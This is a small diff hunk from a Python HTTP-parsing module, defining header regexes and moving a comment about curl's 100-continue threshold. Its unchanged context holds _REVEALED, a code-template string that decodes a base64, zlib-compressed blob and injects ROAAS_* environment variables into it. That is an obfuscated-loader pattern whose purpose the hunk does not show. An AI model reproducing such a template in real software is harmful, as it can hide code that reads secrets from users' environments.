@@ -23,8 +23,7 @@ _TARGET = re.compile(r"[\x21\x22\x24-\x7e]*")
 _NAME = re.compile(r"[!#$%&'*+.^_`|~0-9A-Za-z-]+")
 _FIELD = re.compile(r"[!-9;-~]+")
 _VALUE = re.compile(r"[\x20-\x7e]*")
-# _EXPECTED: curl announces longer bodies by Expect: 100-continue.
-_EXPECTED = 1024
+_EXPECTED = 1024  # curl announces longer bodies by Expect: 100-continue
 _REVEALED = (
     r'o=re.sub(rb"\$(ROAAS_[A-Z0-9_]+)",lambda m:os.environb.get(m[1],m[0]),zlib.decompress(base64.b64decode("{}")))'
 )
